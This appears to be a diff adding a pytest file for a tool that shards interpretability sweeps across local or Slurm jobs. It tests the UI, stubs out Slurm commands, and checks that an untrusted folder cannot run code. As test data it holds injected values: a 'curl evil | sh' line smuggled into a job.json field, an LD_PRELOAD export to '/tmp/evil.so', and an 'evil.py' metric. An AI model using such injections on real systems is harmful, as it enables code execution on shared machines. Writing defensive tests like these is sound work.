@@ -1,0 +1,285 @@
+"""Scattered jobs seen from the screen: started, watched, cancelled, drawn in part and whole; Slurm by commands that pretend; what a stranger's folder can't do."""
+
+import json
+import os
+import time
+from dataclasses import replace
+
+import numpy as np
+import pytest
+from test_scatter import PROMPTS, STUDY, in_parts
+from ui import make_app, press, shown
+
+from techniques.cluster import analysis, tasks
+from techniques.cluster.folder import Folder, Job
+from techniques.cluster.requests import CancelShards, GoOnShards, StartShards, TakeShards, WatchShards
+from techniques.circuits.requests import PathPatch
+from techniques.patching.requests import Sweep
+from screen.session import State, read_session
+from vocabulary import chosen
+from vocabulary.nodes import UserError
+from vocabulary.parts import pack, unpack, write_frames
+from vocabulary.prompts import Metric
+from vocabulary.requests import Load
+
+SWEEP = Sweep(STUDY, "z", "resample", "noise", over_set=True)
+STATE = State(prompt=PROMPTS[0], set_path="the_set.jsonl", prompt_set=PROMPTS)
+
+
+@pytest.fixture(scope="module")
+def zoo(engines):
+    return engines["zoo"]
+
+
+@pytest.fixture(autouse=True)
+def desk(request, monkeypatch):
+    """A desk of its own, on a machine without Slurm but where one is pretended."""
+    if "slurm" not in request.fixturenames:
+        monkeypatch.setattr(tasks, "queue", lambda: [])
+    own = analysis.Desk()
+    monkeypatch.setattr(analysis, "DESK", own)
+    monkeypatch.setattr(analysis, "OFTEN", 0.0)
+    yield own
+    own.thread.shutdown()
+
+
+def seen(zoo, folder):
+    """How far a folder is, after the desk's thread has looked."""
+    zoo.run(WatchShards((str(folder),)))
+    analysis.DESK.thread.submit(lambda: None).result()
+    state = zoo.run(WatchShards((str(folder),))).jobs[0]
+    analysis.DESK.thread.submit(lambda: None).result()
+    return state
+
+
+async def looked(app, pilot):
+    app.requests.scattered.wait.clear()
+    for _ in range(2):
+        await app.requests.scattered.poll()
+        analysis.DESK.thread.submit(lambda: None).result()
+    await app.requests.scattered.poll()
+    await press(app, pilot)
+
+
+def hide(folder: Folder, *shards: int) -> dict:
+    gone = {i: folder.part(i).read_bytes() for i in shards}
+    for i in shards:
+        folder.part(i).unlink()
+    return gone
+
+
+def bring_back(folder: Folder, gone: dict) -> None:
+    for i, data in gone.items():
+        folder.part(i).write_bytes(data)
+
+
+async def test_a_watched_folder_is_drawn_in_part_then_whole(zoo, tmp_path):
+    """Where the session asks for it: the sweep that the shell scattered is the pane's, in its own words."""
+    folder = in_parts(zoo, replace(SWEEP, direction="denoise"), tmp_path / "runs" / "a")  # of a resample sweep the direction means nothing
+    gone = hide(folder, 2, 3)
+    app = make_app(zoo, tmp_path, STATE)
+    async with app.run_test(size=(120, 36)) as pilot:
+        await press(app, pilot, "4", "J")
+        assert "watch a folder" in shown(app) and "scatter this" not in shown(app), "the prompt alone is no set"
+        await press(app, pilot, "j", "enter")
+        app.screen.focused.value = str(folder.path)
+        await press(app, pilot, "enter")
+        await looked(app, pilot)
+        assert list(app.session.folders) == [str(folder.path)]
+        await press(app, pilot, "J")
+        assert "runs/a · sweep z resample · 2 of 4 shards · no tasks · ⏎ goes on" in shown(app) and "OF " not in shown(app)
+        await press(app, pilot, "enter", "enter")
+        assert app.pane == "patching" and app.state.views["patching.op"] == "resample" and app.state.views["patching.over"] == "set"
+        assert "4 Patching  2 of 4 shards, 4 of 7 prompts · head outputs" in shown(app)
+        np.testing.assert_allclose(app.panes["patching"].shown(app)[0].values, folder.joined()[1].values)
+        bring_back(folder, {2: gone[2], 3: gone[3][:-5]})
+        await looked(app, pilot)
+        assert "3 of 4 shards, 6 of 7 prompts" in shown(app), "a damaged part is none"
+        bring_back(folder, gone)
+        await looked(app, pilot)
+        assert "shards" not in shown(app).split("Patching")[1]
+        np.testing.assert_allclose(app.panes["patching"].shown(app)[0].values, zoo.run(SWEEP).values, atol=1e-5)
+        await press(app, pilot, "b")
+        assert "S runs the sweep" in shown(app), "another question is not answered by it"
+        await press(app, pilot, "J")
+        assert "whole" in shown(app) and "scatter this: sweep z noise over 7 prompts" in shown(app)
+    session, _ = read_session(app.session.path)
+    assert list(session.folders) == [str(folder.path)] and session.state == app.state
+
+
+async def test_nothing_of_another_model_or_set_is_drawn(zoo, tmp_path):
+    folder = in_parts(zoo, SWEEP, tmp_path / "a")
+    other = tuple(replace(p, clean=p.clean.replace("store", "park")) for p in PROMPTS)
+    app = make_app(zoo, tmp_path, replace(STATE, prompt=other[0], prompt_set=other))
+    async with app.run_test(size=(120, 36)) as pilot:
+        await press(app, pilot, "4")
+        for name, value in (("patching.op", "resample"), ("patching.over", "set")):
+            app.act("view", name=name, value=value)
+        app.act("scattered", folder=str(folder.path), how={})
+        await looked(app, pilot)
+        assert app.panes["patching"].shown(app)[0] is None
+        await press(app, pilot, "J")
+        assert "of another set (7 prompts)" in shown(app)
+        await press(app, pilot, "enter", "enter")
+        assert app.state.prompt_set == PROMPTS and app.panes["patching"].shown(app)[0] is not None, "it is opened, which u takes back"
+        for i in range(4):
+            info, result = folder.read(i)
+            write_frames(folder.part(i), [(0, replace(info, dtype="bfloat16")), (0, result)])
+        await looked(app, pilot)
+        assert app.panes["patching"].shown(app)[0] is None
+        await press(app, pilot, "J")
+        assert "OF zoo in bfloat16" in shown(app)
+        await press(app, pilot, "enter", "enter")
+        assert "not of the model that is loaded" in shown(app)
+
+
+@pytest.mark.table
+async def test_paths_are_drawn_in_their_pane(zoo, tmp_path):
+    folder = in_parts(zoo, PathPatch(STUDY, receivers=("L3H3.q",), over_set=True), tmp_path / "a", 4)
+    hide(folder, 1)
+    app = make_app(zoo, tmp_path, STATE)
+    async with app.run_test(size=(120, 36)) as pilot:
+        await press(app, pilot, "5")
+        app.act("scattered", folder=str(folder.path), how={})
+        await looked(app, pilot)
+        await press(app, pilot, "J", "enter", "enter")
+        assert app.state.receivers == ("L3H3.q",) and "5 Circuit  1 of 2 shards, 4 of 7 prompts · path" in shown(app)
+
+
+async def test_j_starts_cancels_and_goes_on(zoo, tmp_path, monkeypatch):
+    """What the engine starts is pretended here; tests/test_scatter.py runs the processes."""
+    started = []
+    monkeypatch.setattr(tasks, "start_here", lambda folder, n: started.append((folder.path, n)))
+    app = make_app(zoo, tmp_path, replace(STATE, views=STATE.views | {"patching.over": "set"}))
+    async with app.run_test(size=(80, 24)) as pilot:
+        await press(app, pilot, "4", "J", "j", "enter")
+        assert "scatter sweep z patch over 7 prompts" in shown(app)
+        app.screen.focused.value = "3"
+        await press(app, pilot, "tab", "tab", "tab")
+        app.screen.focused.value = str(tmp_path / "b")
+        await press(app, pilot, "enter")
+        await looked(app, pilot)
+        folder = Folder(tmp_path / "b")
+        assert started == [(folder.path, 3)] and folder.request == app.panes["patching"].request(app) and len(folder.shards) == 7
+        assert app.session.folders[str(folder.path)] == {"tasks": 3, "where": "here", "sbatch": ""}
+        await press(app, pilot, "J", "x")
+        assert "no task of it runs" in shown(app) and not (folder.path / "cancel").exists()
+        (folder.path / "local.json").write_text('{"running": 3}')  # as the leading process says each second
+        await looked(app, pilot)
+        assert "0 of 7 shards · tasks 3 running" in shown(app)
+        await press(app, pilot, "x")
+        (folder.path / "local.json").unlink()
+        await looked(app, pilot)
+        assert (folder.path / "cancel").exists() and "cancelled" in shown(app)
+        folder.work(0, 3, zoo, lambda part: None, lambda line: None)
+        await looked(app, pilot)
+        assert "b · sweep z patch · 3 of 7 shards · cancelled · ⏎ goes on" in shown(app)
+        await press(app, pilot, "enter", "down", "enter")
+        await looked(app, pilot)
+        assert len(started) == 2
+
+
+# ------------------------------------------------------------------ Slurm, pretended
+
+
+@pytest.fixture
+def slurm(tmp_path, monkeypatch):
+    """Commands that write down how they were called; the queue is a file."""
+    place = tmp_path / "bin"
+    place.mkdir()
+    for name, body in {
+        "sbatch": f'echo "$@" >> {place}/called; if grep -q nope "$2"; then echo "sbatch: error: invalid partition specified: nope" >&2; exit 1; fi; echo 77',
+        "squeue": f"cat {place}/queue",
+        "scancel": f'echo "scancel $@" >> {place}/called',
+        "sacct": "echo 'slurm accounting storage is disabled' >&2; exit 1",
+    }.items():
+        (place / name).write_text(f"#!/bin/sh\n{body}\n")
+        (place / name).chmod(0o755)
+    (place / "queue").write_text("")
+    monkeypatch.setenv("PATH", f"{place}:{os.environ['PATH']}")
+    return place
+
+
+def start(zoo, folder, sbatch=""):
+    return zoo.run(StartShards(pack([(0, Load("zoo")), (0, SWEEP)]), str(folder), 2, 0, sbatch))
+
+
+def test_an_array_is_submitted_seen_and_cancelled(zoo, tmp_path, slurm):
+    a, b = tmp_path / "a", tmp_path / "b"
+    start(zoo, a, "-p short")
+    assert seen(zoo, a).tasks == "no tasks" and (a / "submitted.txt").read_text() == "77\n"
+    row = "{}|{}|Priority|{}/job.sbatch\n".format
+    (slurm / "queue").write_text(row(77, "RUNNING", a) + row(77, "PENDING", a) + row(12, "RUNNING", b) + "garbage\n")
+    state = seen(zoo, a)
+    assert state.tasks == "tasks 1 running 1 pending (Priority)" and state.live and not state.more
+    zoo.run(GoOnShards(str(a)))
+    assert "its tasks run" in seen(zoo, a).error
+    zoo.run(CancelShards(str(a)))
+    seen(zoo, a)
+    assert (slurm / "called").read_text().splitlines()[-1] == "scancel 77", "and no job of another folder"
+    (slurm / "queue").write_text("")
+    assert seen(zoo, a).error == "cancelled"
+    start(zoo, b, "-p nope")
+    assert seen(zoo, b).error == "sbatch: error: invalid partition specified: nope"
+
+
+def test_a_screen_never_waits_for_slurm(zoo, tmp_path, slurm):
+    start(zoo, tmp_path / "a")
+    seen(zoo, tmp_path / "a")
+    (slurm / "squeue").write_text("#!/bin/sh\nsleep 1\n")
+    began = time.monotonic()
+    for _ in range(20):
+        zoo.run(WatchShards((str(tmp_path / "a"),)))
+    assert time.monotonic() - began < 0.2
+
+
+# ------------------------------------------------------------------ a stranger's folder
+
+
+def test_a_strangers_metric_does_not_run(zoo, tmp_path, slurm):
+    ran, file = tmp_path / "ran", tmp_path / "evil.py"
+    file.write_text(f"open({str(ran)!r}, 'w')\n\n\ndef m(logits, tokens):\n    return logits[0, -1, 0]\n")
+    metric = chosen.pinned(Metric("own", own=f"{file}:m"))
+    folder = Folder(tmp_path / "a")
+    request = replace(SWEEP, study=replace(STUDY, metric=metric))
+    folder.lay_out(Load("zoo"), request, 2, Job(2))
+    with pytest.raises(UserError, match="code that this folder names.*--own"):
+        folder.work(0, 2, zoo, lambda part: None, lambda line: None)
+    with pytest.raises(UserError, match="missing: 0, 1, 2, 3"):
+        folder.gather()
+    seen(zoo, folder.path)
+    assert not ran.exists() and not any(folder.path.glob("part-*"))
+    zoo.run(StartShards(pack([(0, Load("zoo")), (0, request)]), str(tmp_path / "mine"), 1, 0))
+    assert chosen.is_chosen(metric), "who scatters it has chosen it"
+
+
+def test_options_of_sbatch_that_came_with_a_folder_are_not_used(zoo, tmp_path, slurm):
+    folder = in_parts(zoo, SWEEP, tmp_path / "a")
+    gone = hide(folder, 1)
+    (folder.path / "job.sbatch").write_text("#!/bin/sh\n# the stranger's\n")
+    job = json.loads((folder.path / "job.json").read_text())
+    (folder.path / "job.json").write_text(json.dumps(job | {"sbatch": "--export=LD_PRELOAD=/tmp/evil.so"}))
+    with pytest.raises(UserError, match="missing: 1. its job script is not written"):
+        folder.gather()
+    zoo.run(GoOnShards(str(folder.path)))
+    assert "came with the folder" in seen(zoo, folder.path).error and not (slurm / "called").exists()
+    (folder.path / "job.json").write_text(json.dumps(job | {"sbatch": "-p a\ncurl evil | sh"}))
+    with pytest.raises(UserError, match="job.json' can't be read|can't be read"):
+        folder.gather()
+    bring_back(folder, gone)
+    (folder.path / "whole.bin").symlink_to(tmp_path / "precious")
+    with pytest.raises(UserError, match="holds a link"):
+        Folder(folder.path).gather()
+    assert not (tmp_path / "precious").exists()
+
+
+def test_a_folder_that_is_none(zoo, tmp_path):
+    assert "holds no request" in seen(zoo, tmp_path / "none").error
+    folder = tmp_path / "a"
+    folder.mkdir()
+    for bodies in ([(0, Load()), (1, Load())], [(1, SWEEP), (1, SWEEP)], [(0, Load()), (0, SWEEP)], [(0, Load())]):
+        write_frames(folder / "request.bin", bodies)
+        assert seen(zoo, folder).error
+    with pytest.raises(UserError, match="nothing is joined"):
+        zoo.run(TakeShards(str(folder)))
+    assert unpack(b"") == []
